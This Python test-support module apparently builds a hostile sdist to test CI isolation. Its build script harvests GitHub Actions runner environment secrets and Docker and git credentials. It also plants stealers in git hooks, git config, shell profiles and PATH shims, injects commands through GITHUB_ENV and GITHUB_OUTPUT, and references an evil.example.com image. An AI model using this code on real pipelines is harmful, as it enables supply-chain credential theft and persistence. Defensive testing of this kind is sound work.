"""An sdist whose build does all that code can do in a job of CI, once nothing confines it: it reads every secret that
it finds, and leaves something behind at every place from which a later step, or a later job, may run or read it.

It takes the machine on which it runs from the environment of the processes around it, and leaves all else alone: the
jobs of a test share one computer, and those of GitHub don't.
"""

from __future__ import annotations

from pathlib import Path
from typing import Final

from tests.support.builders.wheels import Artifact, sdist

_BUILD: Final = r'''
import glob, os, pathlib, subprocess, sys

HOME = {folder!r}
LOOT = pathlib.Path(HOME, "loot")
LIFE_S = 15


def machine():
    """The environment of the step that builds: that of a parent of this process."""
    process, found = os.getpid(), {{}}
    while process > 1:
        rows = pathlib.Path("/proc", str(process), "environ").read_bytes().split(b"\0")
        known = dict(row.decode("utf-8", "replace").split("=", 1) for row in rows if b"=" in row)
        if "RUNNER_TEMP" in known and "GITHUB_OUTPUT" in known:
            found = known
            break
        status = pathlib.Path("/proc", str(process), "status").read_text()
        process = int(status.partition("PPid:")[2].split()[0])
    return found


def keep(what, content):
    with open(LOOT, "a", encoding="utf-8") as file:
        file.write("==== " + what + "\n" + content + "\n")


def plant(path, text, mode=0o755, append=False):
    path = pathlib.Path(path)
    if not str(path).startswith(HOME):
        return
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        if append:
            with open(path, "a", encoding="utf-8") as file:
                file.write(text)
            return
        # A script that is being run goes on as it was.
        new = path.with_name(path.name + ".new")
        new.write_text(text, encoding="utf-8")
        new.chmod(mode)
        new.replace(path)
    except OSError as fault:
        keep("cannot plant " + str(path), str(fault))


STEAL = f"""#!/bin/bash
{{{{
  echo "==== RUN $0 $*"
  /usr/bin/env
  /bin/cat "$HOME/.docker/config.json" "$DOCKER_CONFIG/config.json" "$REGISTRY_AUTH_FILE" "$HOME/.gitconfig" .git/config
}}}} >> {{LOOT}} 2>/dev/null
"""
# A program in place of another one steals first, and then does what it should, so that nobody sees it.
INSTEAD = STEAL + """
PATH=$(echo "$PATH" | /usr/bin/tr : "\\n" | /bin/grep -v "^{folder}" | /usr/bin/paste -sd :)
exec NAME "$@"
"""
WATCH = r"""
import glob, pathlib, sys, time
loot, temp, life = pathlib.Path(sys.argv[1]), sys.argv[2], float(sys.argv[3])
mark, seen, end = ("RUNNER_TEMP=" + temp).encode(), set(), time.monotonic() + life
while time.monotonic() < end:
    for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob(temp + "/**/*.json", recursive=True)]:
        try:
            content = pathlib.Path(path).read_bytes()
        except OSError:
            continue
        if (mark in content.split(b"\0") or not path.startswith("/proc")) and content not in seen:
            seen.add(content)
            with open(loot, "ab") as file:
                file.write(b"==== SEEN " + path.encode() + b"\n" + content + b"\n")
    time.sleep(0.02)
"""


def attack(known):
    keep("environ", repr(known))
    work, temp, home = known["GITHUB_WORKSPACE"], known["RUNNER_TEMP"], known["HOME"]
    steal = temp + "/steal"
    plant(steal, STEAL)
    for name in "pre-commit commit-msg post-commit pre-push post-checkout reference-transaction".split():
        plant(work + "/.git/hooks/" + name, STEAL)
    settings = "[core]\n\tfsmonitor = {{0}}\n\tsshCommand = {{0}}\n\tpager = {{0}}\n[credential]\n\thelper = {{0}}\n"
    settings += '[filter "x"]\n\tclean = {{0}}\n\tsmudge = {{0}}\n'
    plant(work + "/.git/config", settings.format(steal), 0o644, append=True)
    plant(work + "/.git/info/attributes", "* filter=x\n", 0o644)
    plant(home + "/.gitconfig", settings.format(steal), 0o644)
    plant(home + "/.docker/config.json", '{{"credsStore": "evil"}}', 0o644)
    for name in (".bashrc", ".profile", ".bash_profile"):
        plant(home + "/" + name, ". " + steal + "\n")
    for path in glob.glob(work + "/.github/**/*.sh", recursive=True):
        plant(path, STEAL + pathlib.Path(path).read_text().partition("\n")[2])
    for path in glob.glob(work + "/.github/**/*.py", recursive=True):
        plant(path, f"import os; os.system({{steal!r}})\n" + pathlib.Path(path).read_text())
    names = "git gh python3 skopeo docker cat head iconv date tr sed docker-credential-evil".split()
    for folder in [*known["PATH"].split(":"), temp + "/evil"]:
        for name in names:
            plant(folder + "/" + name, INSTEAD.replace("NAME", name))
    plant(known["GITHUB_ENV"], f"BASH_ENV={{steal}}\nGIT_CONFIG_GLOBAL={{home}}/.gitconfig\n", 0o644)
    plant(known["GITHUB_PATH"], temp + "/evil\n", 0o644)
    evil = "$(touch {folder}/ran) `touch {folder}/ran`; touch {folder}/ran"
    matrix = '{{"include": [{{"spec": "small", "image": "evil.example.com/x:1"}}]}}'
    rows = {{"changed": "yes", "failed": "no", "number": evil, "comment": evil, "names": '["evil"]', "matrix": matrix}}
    plant(known["GITHUB_OUTPUT"], "".join(f"{{name}}={{value}}\n" for name, value in rows.items()), 0o644, append=True)
    plant(known["GITHUB_STEP_SUMMARY"], "<img src=x> @everybody\n", 0o644, append=True)
    {also}
    command = [sys.executable, "-c", WATCH, str(LOOT), temp, str(LIFE_S)]
    nowhere = {{"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}}
    subprocess.Popen(command, start_new_session=True, env={{"RUNNER_TEMP": temp}}, **nowhere)


try:
    found = machine()
    if found:
        attack(found)
except Exception as fault:
    keep("failed", repr(fault))
'''


def hostile_build(folder: Path, name: str = "own", also: str = "pass") -> Artifact:
    """folder: of the test; nothing outside of it is touched, and the loot lies there. also: more Python, `work` is the
    workspace and `temp` the folder for temporary files."""
    on_build = _BUILD.format(folder=str(folder), also=also)
    return sdist(name, "1.0.0", on_build=on_build)


def loot(folder: Path) -> str:
    """What it has got, which says whether it was there at all."""
    path = folder / "loot"
    return path.read_text(encoding="utf-8", errors="replace") if path.exists() else ""
